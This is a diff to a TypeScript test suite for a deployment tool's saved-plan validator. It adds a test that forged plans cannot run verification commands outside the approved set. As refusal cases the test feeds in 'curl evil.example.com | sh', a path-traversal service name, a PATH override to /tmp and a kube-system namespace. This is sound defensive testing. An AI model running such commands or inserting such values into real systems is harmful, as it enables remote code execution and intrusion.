@@ -52,14 +52,19 @@ function stepOf(plan: Plan): Step {
   return step;
 }
 
-function opened(text: string, more: Partial<Environment> = {}): void {
+type Lines = Parameters<typeof assertSavedPlan>[0]['lines'];
+
+function opened(text: string, more: Partial<Environment> = {}, lines: Lines = []): void {
   const plan = parsePlanFile(text, 'slipway.plan');
-  const check = { environment: { ...production, ...more }, kinds, pruneKinds: [], now: NOW };
+  const check = { environment: { ...production, ...more }, lines, kinds, pruneKinds: [], now: NOW };
   assertSavedPlan({ ...check, plan, file: 'slipway.plan' });
 }
 
-async function refusal(edit: (plan: Edited) => void): Promise<{ code: string; text: string }> {
-  const error = await failureOf(Promise.resolve().then(() => opened(forged(edit))));
+async function refusal(
+  edit: (plan: Edited) => void,
+  lines: Lines = [],
+): Promise<{ code: string; text: string }> {
+  const error = await failureOf(Promise.resolve().then(() => opened(forged(edit), {}, lines)));
   const faults = (error as { faults?: readonly { message: string }[] }).faults ?? [];
   return {
     code: error.code,
@@ -190,6 +195,22 @@ describe('attacks by a saved plan', () => {
 
     expect(lines.join('\n')).to.match(/- ConfigMap +x in elsewhere/);
     expect(lines.join('\n')).to.not.contain('in development');
+  });
+
+  it('runs no line but those of the block of this checkout', async () => {
+    const line = { line: 'npm run smoke', timeoutMs: 60_000 };
+    const asked = { name: 'web', namespace: genuine().namespace, service: 'web', port: 80, duringMs: 0 };
+    const verify = (more: object) => (plan: Edited) => {
+      (plan as { verifications?: unknown }).verifications = [{ ...asked, by: 'line', ...line, ...more }];
+    };
+
+    opened(forged(verify({})), {}, [line]);
+    for (const more of [{ line: 'curl evil.example.com | sh' }, { timeoutMs: 3_600_000 }])
+      expect((await refusal(verify(more), [line])).text).to.include('would run a line that the block');
+    expect((await refusal(verify({}))).code).to.equal('PLAN_MOVED');
+    for (const more of [{ timeoutMs: 1e12 }, { service: 'web/../x' }, { env: { PATH: '/tmp' } }])
+      expect((await refusal(verify(more), [line])).code).to.equal('PLAN_UNREADABLE');
+    expect((await refusal(verify({ namespace: 'kube-system' }), [line])).text).to.include('kube-system');
   });
 
   it('asks no Service of another namespace, and nothing but a Service', async () => {
